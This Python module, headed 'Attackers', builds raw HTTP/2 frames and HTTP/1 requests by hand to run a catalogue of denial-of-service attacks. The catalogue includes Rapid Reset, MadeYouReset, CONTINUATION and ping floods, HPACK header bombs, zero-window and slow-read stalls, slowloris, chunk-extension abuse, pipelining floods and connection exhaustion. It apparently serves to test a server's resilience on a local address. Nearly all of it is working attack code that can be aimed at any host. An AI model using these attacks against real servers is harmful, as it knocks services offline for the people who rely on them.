"""Attackers: raw sockets and hand-made HTTP/2 frames.

Each attack is a function of a `Target`. It opens one connection, does its worst within a bound of bytes and of time,
and returns an `Ending`: how it was told to stop. Nothing here keeps to the rules of a protocol library."""

import re
import select
import socket
import ssl
import struct
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED = 0x1, 0x1, 0x4, 0x8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CALM = 11
STATUS_LINE = re.compile(rb"HTTP/1\.1 (\d{3})")


class Target:
    """Where to attack. `source` is the address that the attacker comes from (Linux lets any of 127/8 be one)."""

    def __init__(self, address, port, host, tls_port=None, source=None, patience=10.0):
        self.address, self.port, self.host = address, port, host
        self.tls_port, self.source = tls_port, source
        self.patience = patience

    def connect(self, receive_buffer=None, port=None):
        connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if receive_buffer:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        connection.settimeout(10)
        if self.source:
            connection.bind((self.source, 0))
        connection.connect((self.address, port or self.port))
        return connection

    def connect_tls(self, alpn="http/1.1", receive_buffer=None):
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols([alpn])
        return context.wrap_socket(
            self.connect(receive_buffer, self.tls_port), server_hostname=self.host)


class Ending:
    """What the other side said and did: statuses of HTTP/1 or HTTP/2 responses, the code of a GOAWAY, codes of
    RST_STREAM, and whether it closed the connection."""

    def __init__(self):
        self.statuses, self.resets = {}, {}
        self.goaway = None
        self.closed = False
        self.sent = 0
        self.seconds = 0.0

    def __str__(self):
        words = []
        if self.goaway is not None:
            words.append("GOAWAY ENHANCE_YOUR_CALM" if self.goaway == CALM else f"GOAWAY {self.goaway}")
        words += [f"{status}" for status in sorted(self.statuses)]
        if self.resets:
            words.append("RST_STREAM " + ", ".join(str(code) for code in sorted(self.resets)))
        words.append("closed" if self.closed else "open")
        return ", ".join(words)

    __repr__ = __str__


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value, indexed=False):
    """A header field with its texts, without Huffman code; `indexed` puts it into the table (RFC 7541 section 6.2)."""
    def text(data):
        return integer(len(data), 7, 0) + data
    return (b"\x40" if indexed else b"\x00") + text(name) + text(value)


def integer(value, bits, first):
    """RFC 7541 section 5.1."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = [first | most], value - most
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes([*out, value])


def request_head(host, path=b"/", method=b"GET", extra=b""):
    """:method, :scheme http, :path, :authority, then `extra`."""
    return (literal(b":method", method) + b"\x86" + literal(b":path", path)
            + literal(b":authority", host.encode()) + extra)


def settings(*pairs):
    return frame(SETTINGS, payload=b"".join(struct.pack(">HI", *pair) for pair in pairs))


def head_frame(stream, head, end=True):
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, head)


class Reader:
    """Takes apart what comes back, as HTTP/2 frames or HTTP/1 status lines."""

    def __init__(self, ending, http2):
        self.ending, self.http2, self.bytes, self.literal = ending, http2, b"", 0

    def feed(self, data):
        self.bytes += data
        if not self.http2:
            end = 0
            for match in STATUS_LINE.finditer(self.bytes):
                self.count(self.ending.statuses, int(match[1]))
                end = match.end()
            # The beginning of the next one may have come.
            self.bytes = self.bytes[end:][-11:]
            return
        while len(self.bytes) >= 9:
            length = int.from_bytes(self.bytes[:3], "big")
            if len(self.bytes) < 9 + length:
                return
            kind, payload = self.bytes[3], self.bytes[9:9 + length]
            self.bytes = self.bytes[9 + length:]
            if kind == GOAWAY:
                # A graceful notice before does not count.
                self.ending.goaway = struct.unpack(">I", payload[4:8])[0]
            elif kind == RST_STREAM:
                self.count(self.ending.resets, struct.unpack(">I", payload)[0])
            elif kind == HEADERS:
                self.count(self.ending.statuses, self.status(payload))

    def status(self, block):
        """The status of a response head: an index of the static table, or three digits with or without Huffman code
        behind the name's index; one that is in the dynamic table is taken for the last that was written out."""
        known = {0x88: 200, 0x89: 204, 0x8a: 206, 0x8b: 304, 0x8c: 400, 0x8d: 404, 0x8e: 500}
        if block[0] in known:
            return known[block[0]]
        if block[0] & 0x80 == 0 and len(block) > 2:
            length, value = block[1] & 0x7f, block[2:2 + (block[1] & 0x7f)]
            self.literal = digits(value) if block[1] & 0x80 else int(value) if length == 3 else 0
        return self.literal

    @staticmethod
    def count(table, key):
        table[key] = table.get(key, 0) + 1


def digits(code):
    """Decimal digits in HPACK's Huffman code (RFC 7541 appendix B): 0 to 2 have five bits, 3 to 9 six."""
    bits = "".join(f"{byte:08b}" for byte in code)
    number, at = "", 0
    while at + 5 <= len(bits) and len(number) < 3:
        five, six = int(bits[at:at + 5], 2), bits[at:at + 6]
        if five <= 2:
            number, at = number + str(five), at + 5
        elif len(six) == 6 and 0x19 <= int(six, 2) <= 0x1f:
            number, at = number + str(int(six, 2) - 0x19 + 3), at + 6
        else:
            return 0
    return int(number or 0)


def play(connection, pieces, http2, patience, reads=True, pause=0.0):
    """Sends `pieces` (bytes, one after the other) as fast as they are taken and reads meanwhile, until the other side
    closes, the pieces are used up and `patience` seconds passed without an end, or for half a second after a GOAWAY.
    With `pause`, so many seconds lie between two pieces. Without `reads`, nothing is read until the end."""
    ending = Ending()
    reader = Reader(ending, http2)
    started = time.monotonic()
    deadline = started + patience
    connection.setblocking(False)
    pieces = iter(pieces)
    waiting = memoryview(b"")
    more, not_before = True, 0.0
    while (now := time.monotonic()) < deadline and not ending.closed:
        if not len(waiting) and more and now >= not_before:
            piece = next(pieces, None)
            more = piece is not None
            waiting = memoryview(piece or b"")
            not_before = now + pause
        readable, writable, _ = select.select(
            [connection] if reads else [], [connection] if len(waiting) else [], [],
            0.02 if reads or len(waiting) else 0.1)
        try:
            if writable:
                count = connection.send(waiting)
                waiting = waiting[count:]
                ending.sent += count
            if readable or getattr(connection, "pending", int)():
                take(connection, reader, ending)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            pass
        except OSError:
            ending.closed = True
        if ending.goaway not in (None, 0) and more:
            more, deadline = False, min(deadline, now + 2)
        if not reads and probe_closed(connection):
            ending.closed = True
    if ending.closed or not reads:
        drain(connection, reader, ending)
    ending.seconds = time.monotonic() - started
    connection.close()
    return ending


def take(connection, reader, ending):
    data = connection.recv(1 << 16)
    if not data:
        ending.closed = True
    reader.feed(data)


def drain(connection, reader, ending):
    """What still lies in our socket: the other side may have said why it closed."""
    try:
        while data := connection.recv(1 << 16):
            reader.feed(data)
        ending.closed = True
    except (OSError, ssl.SSLError) as error:
        ending.closed = ending.closed or isinstance(error, (ConnectionError, ssl.SSLEOFError))


def probe_closed(connection):
    """Whether the connection was reset or closed by the other side, without reading from it (TCP_INFO's state)."""
    raw = connection
    state = raw.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0]
    return state != 1


def http2(target, pieces, opening=settings(), **options):
    connection = target.connect(options.pop("receive_buffer", None))
    patience = options.pop("patience", target.patience)
    return play(connection, prefixed(PREFACE + opening, pieces), True, patience, **options)


def prefixed(first, pieces):
    yield first
    yield from pieces


def http1(target, pieces, **options):
    connection = target.connect(options.pop("receive_buffer", None))
    return play(connection, pieces, False, options.pop("patience", target.patience), **options)


def batches(make, total, size=500):
    """`make(number)` for 0..<total, joined so that a send carries many."""
    for start in range(0, total, size):
        yield b"".join(make(number) for number in range(start, min(total, start + size)))


# HTTP/2: frames


def rapid_reset(target, count=20_000):
    """CVE-2023-44487: a request and its RST_STREAM, over and over."""
    head = request_head(target.host)
    return http2(target, batches(
        lambda n: head_frame(2 * n + 1, head) + frame(RST_STREAM, 0, 2 * n + 1, struct.pack(">I", 8)), count))


def made_you_reset(target, count=20_000):
    """CVE-2025-8671: each request is followed by a WINDOW_UPDATE beyond 2^31 - 1, for which it has to be reset."""
    head = request_head(target.host, method=b"POST")
    most = b"\x7f\xff\xff\xff"
    return http2(target, batches(
        lambda n: head_frame(2 * n + 1, head, end=False) + frame(WINDOW_UPDATE, 0, 2 * n + 1, most), count))


def made_you_reset_by_length(target, count=20_000):
    """The same by DATA that contradicts content-length."""
    head = request_head(target.host, method=b"POST", extra=literal(b"content-length", b"1"))
    return http2(target, batches(
        lambda n: head_frame(2 * n + 1, head, end=False) + frame(DATA, END_STREAM, 2 * n + 1, b"ab"), count))


def continuation_flood(target, count=20_000):
    """CVE-2024-27316: a head that goes on in CONTINUATION frames for ever."""
    first = frame(HEADERS, END_STREAM, 1, request_head(target.host))
    return http2(target, prefixed(first, batches(
        lambda n: frame(CONTINUATION, 0, 1, literal(b"x-%d" % n, b"y" * 40)), count)))


def empty_continuations(target, count=20_000):
    first = frame(HEADERS, END_STREAM, 1, request_head(target.host))
    return http2(target, prefixed(first, batches(lambda n: frame(CONTINUATION, 0, 1), count)))


def empty_data(target, count=50_000):
    """CVE-2019-9518: DATA without a byte."""
    first = head_frame(1, request_head(target.host, method=b"POST"), end=False)
    return http2(target, prefixed(first, batches(lambda n: frame(DATA, 0, 1), count)))


def padding_data(target, count=50_000):
    """DATA of padding only."""
    first = head_frame(1, request_head(target.host, method=b"POST"), end=False)
    return http2(target, prefixed(first, batches(lambda n: frame(DATA, PADDED, 1, b"\1\0"), count)))


def empty_headers(target, count=20_000):
    """HEADERS without a field, each on a stream of its own."""
    return http2(target, batches(lambda n: frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1), count))


def settings_flood(target, count=20_000):
    """CVE-2019-9515."""
    return http2(target, batches(lambda n: settings((4, 65_535)), count))


def ping_flood(target, count=20_000):
    """CVE-2019-9512."""
    return http2(target, batches(lambda n: frame(PING, payload=struct.pack(">Q", n)), count))


def unread_ping_flood(target, count=200_000):
    """The same without ever reading the answers."""
    return http2(
        target, batches(lambda n: frame(PING, payload=struct.pack(">Q", n)), count), reads=False, receive_buffer=4096)


def priority_flood(target, count=50_000):
    """CVE-2019-9513: PRIORITY frames that move streams about."""
    return http2(target, batches(
        lambda n: frame(PRIORITY, 0, 2 * (n % 1000) + 3, struct.pack(">IB", 2 * ((n * 7) % 1000) + 1001 * 2 + 1, 7)),
        count))


def window_update_flood(target, count=1_500_000):
    """WINDOW_UPDATE by one for the connection."""
    blob = frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 5000
    return http2(target, (blob for _ in range(count // 5000)))


def unknown_frame_flood(target, count=50_000):
    """Frames of a type that nobody has defined, which are to be ignored (RFC 9113 section 4.1)."""
    return http2(target, batches(lambda n: frame(0xee, 0xff, 0, b"zzzz"), count))


def goaway_flood(target, count=50_000):
    first = head_frame(1, request_head(target.host, method=b"POST"), end=False)
    return http2(target, prefixed(first, batches(lambda n: frame(GOAWAY, payload=b"\0" * 8), count)))


def stream_flood(target, count=2000):
    """More streams at once than the connection may have, before the setting could be acknowledged."""
    head = request_head(target.host, method=b"POST")
    return http2(target, batches(lambda n: head_frame(2 * n + 1, head, end=False), count))


# HTTP/2: header bombs


def hpack_bomb(target, heads=200):
    """One large field goes into the table; heads of thousands of one-byte references to it follow."""
    extra = literal(b"x", b"b" * 3900, indexed=True)
    def head(n):
        references = b"\xbe" * 12_000
        return head_frame(2 * n + 1, request_head(target.host, extra=extra if n == 0 else references))
    return http2(target, batches(head, heads, 1))


def cookie_crumbs(target, heads=400):
    """CVE-2026-49975: a cookie in thousands of crumbs, each a reference of one byte, while the window is zero."""
    crumb = literal(b"cookie", b"a=b", indexed=True)
    def head(n):
        crumbs = b"\xbe" * 4000
        return head_frame(2 * n + 1, request_head(target.host, extra=crumb if n == 0 else crumbs))
    return http2(target, batches(head, heads, 1), opening=settings((4, 0)))


def many_fields(target):
    """A head of more fields than are taken, within the size."""
    extra = b"".join(literal(b"x-%d" % n, b"1") for n in range(150))
    return http2(target, [head_frame(1, request_head(target.host, extra=extra))], patience=1.5)


# HTTP/2: slowness


def zero_window(target, path=b"/send/200000"):
    """Asks for large answers on many streams and lets none of them out."""
    head = request_head(target.host, path)
    return http2(
        target, [b"".join(head_frame(2 * n + 1, head) for n in range(100))], opening=settings((4, 0)))


def one_byte_windows(target, path=b"/send/200000"):
    """The same, with a byte let out now and then."""
    head = request_head(target.host, path)
    def pieces():
        yield b"".join(head_frame(2 * n + 1, head) for n in range(20))
        while True:
            yield b"".join(frame(WINDOW_UPDATE, 0, 2 * n + 1, b"\0\0\0\1") for n in range(20))
    return http2(target, pieces(), opening=settings((4, 0)), pause=0.2)


def zero_connection_window(target, path=b"/send/400000"):
    """Large stream windows, and never a byte for the connection's."""
    head = request_head(target.host, path)
    return http2(
        target, [b"".join(head_frame(2 * n + 1, head) for n in range(20))], opening=settings((4, 1 << 24)))


def slow_read_http2(target, path=b"/send/4000000"):
    """Windows are wide open, and the socket is never read."""
    head = request_head(target.host, path)
    opening = settings((4, 1 << 30)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30))
    return http2(
        target, [b"".join(head_frame(2 * n + 1, head) for n in range(5))], opening=opening, reads=False,
        receive_buffer=4096)


def slow_body_http2(target):
    """A request body that stops, on many streams."""
    head = request_head(target.host, b"/length", b"POST", literal(b"content-length", b"1000"))
    return http2(target, [b"".join(
        head_frame(2 * n + 1, head, end=False) + frame(DATA, 0, 2 * n + 1, b"some") for n in range(20))])


def slow_head_http2(target):
    """HEADERS, and then a field in CONTINUATION now and then."""
    def pieces():
        yield frame(HEADERS, END_STREAM, 1, request_head(target.host))
        while True:
            yield frame(CONTINUATION, 0, 1, literal(b"x", b"y"))
    return http2(target, pieces(), pause=0.2)


def silent_http2(target):
    """The preface, and not even SETTINGS."""
    connection = target.connect()
    return play(connection, [PREFACE], True, target.patience)


# HTTP/1


def text(target, first="GET / HTTP/1.1", *lines):
    return "\r\n".join([first, f"Host: {target.host}", *lines, "", ""]).encode()


def slowloris(target):
    """A head that trickles: a field now and then."""
    def pieces():
        yield text(target)[:-2]
        while True:
            yield b"x: y\r\n"
    return http1(target, pieces(), pause=0.1)


def silent(target):
    """A connection on which nothing is ever said."""
    return http1(target, [])


def slow_body(target):
    return http1(target, [text(target, "POST /length HTTP/1.1", "Content-Length: 1000") + b"some"])


def slow_read(target, path="/send/8000000"):
    """Asks for a large answer and does not read it."""
    return http1(target, [text(target, f"GET {path} HTTP/1.1")], reads=False, receive_buffer=4096)


def slow_read_tls(target, path="/send/8000000"):
    connection = target.connect_tls(receive_buffer=4096)
    return play(connection, [text(target, f"GET {path} HTTP/1.1")], False, target.patience, reads=False)


def long_target(target):
    return http1(target, [text(target, "GET /" + "x" * 100_000 + " HTTP/1.1")])


def large_head(target):
    """A head without an end."""
    return http1(target, prefixed(text(target)[:-2] + b"x: ", (b"y" * 65_536 for _ in range(1000))))


def head_in_pieces(target, count=5000):
    """A long head, and then byte by byte: each could cost as much as all before it."""
    return http1(target, prefixed(text(target)[:-2] + b"x: " + b"y" * 58_000, (b"y" for _ in range(count))))


def many_fields_http1(target):
    return http1(target, [text(target, "GET / HTTP/1.1", *(f"x-{n}: 1" for n in range(500)))])


def large_body(target):
    length = 1 << 40
    return http1(target, prefixed(
        text(target, "POST /length HTTP/1.1", f"Content-Length: {length}"), (b"z" * 65_536 for _ in range(500))))


def chunk_extension(target):
    """One chunk whose extension never ends."""
    return http1(target, prefixed(
        text(target, "POST /length HTTP/1.1", "Transfer-Encoding: chunked") + b"1;",
        (b"x" * 65_536 for _ in range(1000))))


def chunk_extensions(target, count=100_000):
    """Chunks of one byte, each with an extension of 900."""
    chunk = b"1;" + b"x" * 900 + b"\r\na\r\n"
    return http1(target, prefixed(
        text(target, "POST /length HTTP/1.1", "Transfer-Encoding: chunked"),
        (chunk * 100 for _ in range(count // 100))))


def trailers(target):
    return http1(target, prefixed(
        text(target, "POST /length HTTP/1.1", "Transfer-Encoding: chunked") + b"0\r\nx: ",
        (b"y" * 65_536 for _ in range(1000))))


def tiny_chunks(target, count=300_000):
    """A body in chunks of one byte: lawful, and as dear as it gets."""
    return http1(target, prefixed(
        text(target, "POST /length HTTP/1.1", "Transfer-Encoding: chunked"),
        prefixed(b"", [*(b"1\r\na\r\n" * 5000 for _ in range(count // 5000)), b"0\r\n\r\n"])), patience=4)


def pipelining(target, path="/send/20000", count=20_000):
    """Requests one behind the other, whose answers are never read."""
    blob = text(target, f"GET {path} HTTP/1.1") * 100
    return http1(target, (blob for _ in range(count // 100)), reads=False, receive_buffer=4096)


def pipelining_nowhere(target, count=400_000):
    """The same with requests that are answered at once."""
    blob = b"GET / HTTP/1.1\r\nHost: nowhere.invalid\r\n\r\n" * 1000
    return http1(target, (blob for _ in range(count // 1000)), reads=False, receive_buffer=4096)


def no_route(target, count=20_000):
    """Lawful requests that lead nowhere."""
    blob = b"GET / HTTP/1.1\r\nHost: nowhere.invalid\r\n\r\n" * 200
    return http1(target, (blob for _ in range(count // 200)), patience=3)


# Connections


def unfinished_handshake(target, pieces=(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",)):
    """The first bytes of a ClientHello, and never the rest."""
    connection = target.connect(port=target.tls_port)
    return play(connection, pieces, False, target.patience)


def connections(target, count, tls=False):
    """Opens `count` connections and holds them; returns those that the other side has left open, with how many it
    closed at once."""
    held, refused = [], 0
    for _ in range(count):
        try:
            held.append(target.connect(port=target.tls_port if tls else None))
        except OSError:
            refused += 1
    time.sleep(0.3)
    still = []
    for connection in held:
        connection.setblocking(False)
        try:
            data = connection.recv(1)
        except BlockingIOError:
            still.append(connection)
            continue
        except OSError:
            data = b""
        refused += not data
        connection.close()
    return still, refused
